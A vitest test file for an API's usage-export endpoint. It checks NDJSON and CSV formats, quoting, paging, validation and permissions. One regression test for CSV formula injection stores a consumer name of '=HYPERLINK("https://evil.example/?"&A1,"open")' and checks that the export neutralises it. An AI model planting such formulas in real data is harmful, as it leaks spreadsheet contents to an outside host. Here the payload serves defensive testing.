import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS } from '../../../../test/support/databases.js';
import { createHarness, type Harness } from '../../../../test/support/harness.js';

const MINUTE = 60_000;
const DAY = 86_400_000;
const HEADER = ['minute', 'consumerId', 'consumerName', 'keyId', 'keyName', 'code', 'count'];

/** Parses RFC 4180 CSV (quoted fields, doubled quotes, CRLF records) into rows of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  expect(field, 'the last record ends in CRLF').toBe('');
  return rows;
}

for (const dialect of DIALECTS) {
  describe.skipIf(!dialect.available)(`GET /v1/usage/export on ${dialect.name}`, () => {
    let h: Harness;
    let start: number;
    beforeAll(async () => {
      h = await createHarness(dialect);
      start = Math.ceil(h.clock.now() / DAY) * DAY;
    });
    afterAll(() => h?.close());

    const verify = (key: string, body: Record<string, unknown> = {}) =>
      h.json('POST', '/v1/keys/verify', { key, ...body }, 200);
    const exportOf = (from: number, to: number, format?: string) =>
      h.request({
        method: 'GET',
        url: `/v1/usage/export?from=${new Date(from).toISOString()}&to=${new Date(to).toISOString()}${format ? `&format=${format}` : ''}`,
      });

    it('streams one row per key, minute and code with the recorded counts, as NDJSON', async () => {
      const a = await h.consumerWithKey({ scopes: ['read'] });
      const b = await h.consumerWithKey();
      h.clock.set(start + 5 * MINUTE + 10_000);
      for (let i = 0; i < 4; i++) await verify(a.key);
      for (let i = 0; i < 2; i++) await verify(a.key, { scopes: ['write'] });
      await verify(b.key);
      h.clock.set(start + 9 * MINUTE);
      for (let i = 0; i < 3; i++) await verify(b.key);
      // No flush here: the export writes the node's pending counts first.
      const res = await exportOf(start, start + 10 * MINUTE, 'ndjson');
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('application/x-ndjson');
      const rows = res.body
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l));
      const m5 = new Date(start + 5 * MINUTE).toISOString();
      const m9 = new Date(start + 9 * MINUTE).toISOString();
      const expected = [
        { minute: m5, keyId: a.keyId, consumerId: a.consumerId, code: 'INSUFFICIENT_SCOPE', count: 2 },
        { minute: m5, keyId: a.keyId, consumerId: a.consumerId, code: 'VALID', count: 4 },
        { minute: m5, keyId: b.keyId, consumerId: b.consumerId, code: 'VALID', count: 1 },
        { minute: m9, keyId: b.keyId, consumerId: b.consumerId, code: 'VALID', count: 3 },
      ];
      // Rows come by minute, key id, code: a's key was made before b's, so its id sorts first.
      expect(a.keyId < b.keyId).toBe(true);
      expect(
        rows.map(({ minute, keyId, consumerId, code, count }) => ({ minute, keyId, consumerId, code, count })),
      ).toEqual(expected);
      expect(Object.keys(rows[0])).toEqual(HEADER);
      const consumer = await h.json('GET', `/v1/consumers/${a.consumerId}`, undefined, 200);
      const key = await h.json('GET', `/v1/keys/${a.keyId}`, undefined, 200);
      expect(rows.find((r: { keyId: string }) => r.keyId === a.keyId)).toMatchObject({
        consumerName: consumer.name,
        keyName: key.name,
      });
      // `to` is exclusive: the minute that starts there is left out.
      const early = await exportOf(start, start + 9 * MINUTE, 'ndjson');
      expect(early.body.trimEnd().split('\n')).toHaveLength(3);
    });

    it('quotes CSV fields per RFC 4180, with a header row', async () => {
      const consumer = await h.json('POST', '/v1/consumers', { name: 'Acme, "Widgets"\nEU' }, 201);
      const key = await h.json('POST', '/v1/keys', { consumerId: consumer.id, name: 'prod,\r\nkey "1"' }, 201);
      h.clock.set(start + DAY + MINUTE);
      await verify(key.key);
      const res = await exportOf(start + DAY, start + DAY + 2 * MINUTE);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.body).toContain('"Acme, ""Widgets""\nEU"');
      expect(parseCsv(res.body)).toEqual([
        HEADER,
        [
          new Date(start + DAY + MINUTE).toISOString(),
          consumer.id,
          'Acme, "Widgets"\nEU',
          key.id,
          'prod,\r\nkey "1"',
          'VALID',
          '1',
        ],
      ]);
    });

    // Security finding: names starting with = + - @ were exported raw, so a consumer could name itself
    // a formula that runs when an operator opens the CSV in a spreadsheet (OWASP "CSV Injection").
    it("prefixes text that a spreadsheet would run as a formula with ' in CSV, and leaves NDJSON raw", async () => {
      const name = '=HYPERLINK("https://evil.example/?"&A1,"open")';
      const consumer = await h.json('POST', '/v1/consumers', { name }, 201);
      const key = await h.json('POST', '/v1/keys', { consumerId: consumer.id, name: '@SUM(1+1)' }, 201);
      const at = start + 25 * DAY;
      h.clock.set(at + MINUTE);
      await verify(key.key);
      const csv = parseCsv((await exportOf(at, at + 2 * MINUTE, 'csv')).body);
      expect(csv[1]?.[2]).toBe(`'${name}`);
      expect(csv[1]?.[4]).toBe("'@SUM(1+1)");
      expect(csv[1]?.[6]).toBe('1');
      const ndjson = JSON.parse((await exportOf(at, at + 2 * MINUTE, 'ndjson')).body.trim());
      expect(ndjson).toMatchObject({ consumerName: name, keyName: '@SUM(1+1)', count: 1 });
    });

    it('streams more rows than one page holds, in order, none twice', async () => {
      const { keyId, consumerId } = await h.consumerWithKey();
      const base = start + 3 * DAY;
      const rows = Array.from({ length: 2600 }, (_, i) => ({
        key_id: keyId,
        consumer_id: consumerId,
        minute: base + Math.floor(i / 2) * MINUTE,
        code: i % 2 === 0 ? 'VALID' : 'RATE_LIMITED',
        count: i + 1,
      }));
      for (let i = 0; i < rows.length; i += 500) {
        await h.db.store.db
          .insertInto('usage_minutes')
          .values(rows.slice(i, i + 500))
          .execute();
      }
      const res = await exportOf(base, base + DAY, 'ndjson');
      const out = res.body
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l));
      expect(out).toHaveLength(2600);
      expect(out.reduce((n: number, r: { count: number }) => n + r.count, 0)).toBe((2600 * 2601) / 2);
      expect(out[0]).toMatchObject({ minute: new Date(base).toISOString(), code: 'RATE_LIMITED', count: 2 });
      expect(out[2599]).toMatchObject({ minute: new Date(base + 1299 * MINUTE).toISOString(), code: 'VALID' });
      const csv = parseCsv((await exportOf(base, base + DAY, 'csv')).body);
      expect(csv).toHaveLength(2601);
    });

    it('is documented in OpenAPI with both media types and problem+json errors', async () => {
      const doc = (await h.request({ method: 'GET', url: '/openapi.json', auth: null })).json();
      const op = doc.paths['/v1/usage/export'].get;
      expect(op.operationId).toBe('exportUsage');
      expect(Object.keys(op.responses['200'].content).sort()).toEqual(['application/x-ndjson', 'text/csv']);
      expect(Object.keys(op.responses['400'].content)).toEqual(['application/problem+json']);
      expect(op.parameters.map((p: { name: string }) => p.name).sort()).toEqual(['format', 'from', 'to']);
    });

    it('refuses bad ranges and formats with problem+json, and needs analytics:read', async () => {
      const bad = async (url: string, field: string) => {
        const res = await h.request({ method: 'GET', url });
        expect(res.statusCode, url).toBe(400);
        expect(res.headers['content-type']).toContain('application/problem+json');
        expect(res.json()).toMatchObject({ code: 'VALIDATION_FAILED' });
        expect(res.body).toContain(field);
      };
      const iso = (ms: number) => new Date(ms).toISOString();
      await bad(`/v1/usage/export?from=${iso(start)}&to=${iso(start)}`, 'from');
      await bad(`/v1/usage/export?from=${iso(start)}&to=${iso(start + 31 * DAY + 1)}`, 'to');
      await bad('/v1/usage/export?from=yesterday', 'from');
      await bad(`/v1/usage/export?to=${iso(start)}&format=xml`, 'format');
      const ok = await exportOf(start, start + 31 * DAY);
      expect(ok.statusCode).toBe(200);
      const defaulted = await h.request({ method: 'GET', url: '/v1/usage/export' });
      expect(defaulted.statusCode).toBe(200);
      expect(defaulted.body.split('\r\n')[0]).toBe(HEADER.join(','));
      const readOnly = await h.rootKeyWith(['keys:read']);
      const refused = await h.request({ method: 'GET', url: '/v1/usage/export', auth: readOnly });
      expect(refused.statusCode).toBe(403);
      const allowed = await h.rootKeyWith(['analytics:read']);
      expect((await h.request({ method: 'GET', url: '/v1/usage/export', auth: allowed })).statusCode).toBe(200);
    });
  });
}
